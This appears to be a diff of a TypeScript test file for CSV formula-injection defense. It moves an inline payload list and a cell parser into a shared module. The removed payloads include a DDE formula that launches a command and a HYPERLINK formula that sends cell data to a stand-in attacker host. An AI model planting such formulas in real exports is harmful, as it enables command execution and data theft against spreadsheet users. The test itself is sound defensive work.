@@ -4,35 +4,11 @@ import { startTestServer, type TestServer } from '../../src/api/server.fixture.t
 import { toCsv } from '../../src/api/mixpanel/csv.ts'
 import type { Pseudonym } from '../../src/model/pseudonym.ts'
 import { releaseCsv } from '../../src/vault/release.ts'
+import { cellsOf, computedCells, formulas } from '../../src/drill/index.ts'
 import { toCsv as tableCsv } from '../../web/src/answer/csv.ts'
 
-const payloads = [
-  '=1+1', '=cmd|\'/c calc\'!A0', '+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '\0=1', '\u001d=1', '＝1', '－1', '＋1', '＠x', '=HYPERLINK("http://evil.example?x="&A1,"click")',
-  '"=1', '";=1', ',=1', 'ok\n=1', 'ok\r\n+1', '=1\u202e',
-]
-const dangerous = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/
-
-/** Cells as a spreadsheet reads them: RFC 4180, a quoted cell may hold lines. */
-function cellsOf(csv: string): string[] {
-  const cells: string[] = []
-  let cell = ''
-  let quoted = false
-  const text = csv.replace(/^\ufeff/, '')
-  for (let at = 0; at < text.length; at++) {
-    const char = text[at]!
-    if (quoted && char === '"' && text[at + 1] === '"') {
-      cell += '"'
-      at += 1
-    } else if (char === '"' && (quoted || cell === '')) quoted = !quoted
-    else if (!quoted && (char === ',' || char === '\n')) {
-      cells.push(cell.replace(/\r$/, ''))
-      cell = ''
-    } else cell += char
-  }
-  return [...cells, cell]
-}
-
-const bad = (csv: string): string[] => cellsOf(csv).filter((cell) => dangerous.test(cell))
+const payloads = formulas
+const bad = computedCells
 
 test('D13 the check sees a formula in a cell, quoted or not', () => {
   expect(bad('a,=1\r\n')).toEqual(['=1'])
